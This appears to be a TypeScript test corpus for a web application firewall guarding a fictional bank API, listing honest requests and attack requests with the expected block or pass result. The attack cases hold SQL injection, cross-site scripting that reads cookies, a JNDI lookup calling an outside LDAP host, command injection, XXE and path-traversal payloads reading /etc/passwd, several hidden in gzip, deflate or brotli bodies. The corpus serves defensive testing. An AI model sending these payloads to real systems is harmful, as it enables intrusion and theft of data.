import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';

/** One request of the corpus, and what the inline proxy is to make of it: the other forms are measured by that. */
export interface Case {
  readonly name: string;
  readonly method: string;
  readonly target: string;
  readonly headers: readonly (readonly [string, string])[];
  readonly body: Buffer | null;
  /** Sent in chunks, without a length. */
  readonly chunked?: boolean;
  /** Sent so many times; the last time counts. */
  readonly times?: number;
  /** The client's answer inline: `pass`, or the code of the refusal. */
  readonly inline: 'pass' | 'REQUEST_BLOCKED' | 'HTTP_BODY_TOO_LARGE' | 'INSPECTION_INCOMPLETE' | 'RATE_LIMITED';
}

const HOST = 'api.bank.example';
const SQL = "x' UNION SELECT card FROM vault--";
/** Made for tests: not a card anyone holds, but one that counts as one. */
const CARD = '4111111111111111';

type Extra = Partial<Pick<Case, 'headers' | 'chunked' | 'times'>>;

function get(name: string, target: string, inline: Case['inline'], { headers = [], ...more }: Extra = {}): Case {
  return { name, method: 'GET', target, headers: [['host', HOST], ...headers], body: null, inline, ...more };
}

function post(name: string, target: string, type: string, body: string | Buffer, inline: Case['inline'], extra: Extra = {}): Case {
  const { headers = [], ...more } = extra;
  const fields: [string, string][] = [
    ['host', HOST],
    ['content-type', type],
  ];
  return { name, method: 'POST', target, headers: [...fields, ...headers], body: Buffer.from(body as string), inline, ...more };
}

const json = (name: string, value: unknown, inline: Case['inline'], extra?: Extra): Case =>
  post(name, '/notes', 'application/json', JSON.stringify(value), inline, extra);

function multipart(file: string, content: string): string {
  return `--b0undary\r\ncontent-disposition: form-data; name="note"\r\n\r\nhello\r\n--b0undary\r\ncontent-disposition: form-data; name="file"; filename="${file}"\r\ncontent-type: text/plain\r\n\r\n${content}\r\n--b0undary--\r\n`;
}

const token = ['eyJhbGciOiJIUzI1NiJ9', Buffer.from('{"sub":"carol","client_id":"app-7"}').toString('base64url'), 'c2lnbmF0dXJl'].join('.');
const coded = (value: unknown, code: (text: string) => Buffer): Buffer => code(JSON.stringify(value));
const from = (address: string): Extra => ({ headers: [['x-forwarded-for', address]] });

/** The policy of the corpus. */
export const POLICY = {
  mode: 'block',
  body_bytes_max: 20_000,
  // A busy machine is not what the corpus is about.
  inspect_ms_max: 1_000,
  routes: [
    { id: 'closed', path: '/closed/**', on_error: 'closed' },
    { id: 'watched', path: '/watched/**', mode: 'monitor' },
    { id: 'unguarded', path: '/off/**', mode: 'off' },
  ],
  deny: [{ id: 'bad-actor', addresses: ['203.0.113.0/24'], reason: 'abuse', owner: 'soc' }],
  allow: [{ id: 'auditor', addresses: ['198.51.100.7'], reason: 'audit', owner: 'soc' }],
  exceptions: [{ id: 'search-text', class: 'sqli', scope: { path: '/search/**' }, reason: 'free text', owner: 'search' }],
  patches: [
    {
      id: 'report-id',
      when: "path starts_with '/reports' and not every query.id matches '^[0-9]{1,10}$'",
      class: 'sqli',
      reason: 'joined',
      owner: 'app',
    },
  ],
  limits: [{ id: 'sign-in', limit: 2, action: 'throttle', scope: { path: '/login' }, keys: ['header.x-device'] }],
  specification: {
    rules: [
      { id: 'answers', action: 'block', scope: { path: '/balance' } },
      { id: 'one', action: 'block', scope: { path: '/accounts/**' } },
      { id: 'all', action: 'block', scope: { path: '/accounts' } },
    ],
  },
} as const;

/** What `/accounts` takes; other paths are not described. */
const SPEC = `openapi: 3.0.3
info: { title: Bank, version: '1' }
servers: [{ url: 'http://${HOST}' }]
paths:
  /accounts/{id}:
    get:
      operationId: getAccount
      parameters:
        - { name: id, in: path, required: true, schema: { type: integer } }
        - { name: view, in: query, required: true, schema: { type: string, enum: [short, full] } }
      responses: { '200': { description: ok } }
  /balance:
    get:
      responses:
        '200':
          description: ok
          content: { application/json: { schema: { type: object, required: [amount] } } }
  /accounts:
    post:
      operationId: openAccount
      requestBody:
        required: true
        content:
          application/json:
            schema: { type: object, required: [owner], properties: { owner: { type: string } }, additionalProperties: false }
      responses: { '200': { description: ok } }
`;

export const SPECS = [{ name: 'bank.yaml', text: SPEC }] as const;

export const OPERATIONS = [
  { id: 'GET /customers/{id}', method: 'GET', host: HOST, template: '/customers/{id}', source: 'learned' },
  { id: 'POST /notes', method: 'POST', host: HOST, template: '/notes', source: 'learned' },
] as const;

export const CORPUS: readonly Case[] = [
  // honest
  get('honest query', '/customers/42?sort=name&page=2', 'pass'),
  json('honest JSON', { note: 'rent for May', amount: 12.5 }, 'pass'),
  json('honest JSON in chunks', { note: 'rent for June' }, 'pass', { chunked: true }),
  post('honest form', '/notes', 'application/x-www-form-urlencoded', 'note=rent+for+May&amount=12.50', 'pass'),
  post('honest XML', '/notes', 'application/xml', '<note><text>rent</text></note>', 'pass'),
  post('honest multipart', '/notes', 'multipart/form-data; boundary=b0undary', multipart('rent.txt', 'for May'), 'pass'),
  post('honest gzip', '/notes', 'application/json', coded({ note: 'rent' }, gzipSync), 'pass', { headers: [['content-encoding', 'gzip']] }),
  post(
    'honest binary',
    '/notes',
    'application/octet-stream',
    Buffer.from(Array.from({ length: 600 }, (_, at) => (at * 197 + 13) % 256)),
    'pass',
  ),
  get('a repeated header', '/customers/42', 'pass', {
    headers: [
      ['x-trace', 'a'],
      ['x-trace', 'b'],
    ],
  }),
  { name: 'HEAD', method: 'HEAD', target: '/customers/42', headers: [['host', HOST]], body: null, inline: 'pass' },
  // principals
  get('a bearer token', '/customers/42', 'pass', { headers: [['authorization', `Bearer ${token}`]] }),
  get('basic credentials', '/customers/42', 'pass', {
    headers: [['authorization', `Basic ${Buffer.from('dan:secret').toString('base64')}`]],
  }),
  get('an API key', '/customers/42', 'pass', { headers: [['x-api-key', 'k-93f1c2a77be04f0d']] }),
  // attacks in the head
  get('SQL in the query', `/customers/42?id=${encodeURIComponent(SQL)}`, 'REQUEST_BLOCKED'),
  get('a script in the query', '/customers/42?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E', 'REQUEST_BLOCKED'),
  get('a path coded twice', '/files/%252e%252e%252f%252e%252e%252fetc%252fpasswd', 'REQUEST_BLOCKED'),
  get('a lookup in a header', '/customers/42', 'REQUEST_BLOCKED', { headers: [['user-agent', '${jndi:ldap://203.0.113.5/a}']] }),
  get('SQL in a cookie', '/customers/42', 'REQUEST_BLOCKED', { headers: [['cookie', `sid=1; pref=${encodeURIComponent(SQL)}`]] }),
  // attacks in bodies
  json('SQL in JSON', { note: SQL }, 'REQUEST_BLOCKED'),
  json('SQL in JSON in chunks', { note: SQL }, 'REQUEST_BLOCKED', { chunked: true }),
  json('an operator in JSON', { user: 'a', password: { $ne: null, $where: 'this.a == 1' } }, 'REQUEST_BLOCKED'),
  post('a command in a form', '/notes', 'application/x-www-form-urlencoded', 'host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd', 'REQUEST_BLOCKED'),
  post(
    'an entity in XML',
    '/notes',
    'application/xml',
    '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
    'REQUEST_BLOCKED',
  ),
  post(
    'a path in a file name',
    '/notes',
    'multipart/form-data; boundary=b0undary',
    multipart('../../../etc/passwd', 'x'),
    'REQUEST_BLOCKED',
  ),
  post('SQL in gzip', '/notes', 'application/json', coded({ note: SQL }, gzipSync), 'REQUEST_BLOCKED', {
    headers: [['content-encoding', 'gzip']],
  }),
  post('SQL in deflate', '/notes', 'application/json', coded({ note: SQL }, deflateSync), 'REQUEST_BLOCKED', {
    headers: [['content-encoding', 'deflate']],
  }),
  post('SQL in brotli', '/notes', 'application/json', coded({ note: SQL }, brotliCompressSync), 'REQUEST_BLOCKED', {
    headers: [['content-encoding', 'br']],
  }),
  json('an attack beside what is masked', { note: SQL, card: CARD, password: 'hunter2-hunter2' }, 'REQUEST_BLOCKED'),
  // limits and fail modes
  post('a large body on a route that fails open', '/notes', 'text/plain', 'a'.repeat(30_000), 'pass'),
  post('a large body on a route that fails closed', '/closed/a', 'text/plain', 'a'.repeat(30_000), 'HTTP_BODY_TOO_LARGE'),
  post('an unknown coding on a route that fails closed', '/closed/a', 'application/json', 'zzzz', 'INSPECTION_INCOMPLETE', {
    headers: [['content-encoding', 'zz']],
  }),
  json('deep JSON', JSON.parse(`${'['.repeat(200)}1${']'.repeat(200)}`), 'REQUEST_BLOCKED'),
  get('a sign-in too many', '/login', 'RATE_LIMITED', { headers: [['x-device', 'd-1']], times: 3 }),
  // modes, lists, exceptions, patches
  get('an attack where it is only watched', `/watched/a?id=${encodeURIComponent(SQL)}`, 'pass'),
  get('an attack where nothing is inspected', `/off/a?id=${encodeURIComponent(SQL)}`, 'pass'),
  get('a client on the deny list', '/customers/42', 'REQUEST_BLOCKED', from('203.0.113.9')),
  get('an attack of a client on the allow list', `/customers/42?id=${encodeURIComponent(SQL)}`, 'pass', from('198.51.100.7')),
  get('an exception', `/search/all?q=${encodeURIComponent(SQL)}`, 'pass'),
  get('a virtual patch', '/reports/monthly?id=7%20or%207', 'REQUEST_BLOCKED'),
  // the description
  get('what the description allows', '/accounts/42?view=short', 'pass'),
  get('a parameter that is missing', '/accounts/42', 'REQUEST_BLOCKED'),
  get('a parameter of another type', '/accounts/abc?view=short', 'REQUEST_BLOCKED'),
  post('a field that is not described', '/accounts', 'application/json', '{"owner":"eve","admin":true}', 'REQUEST_BLOCKED'),
  post('a body of another media type', '/accounts', 'text/plain', 'owner=eve', 'REQUEST_BLOCKED'),
];
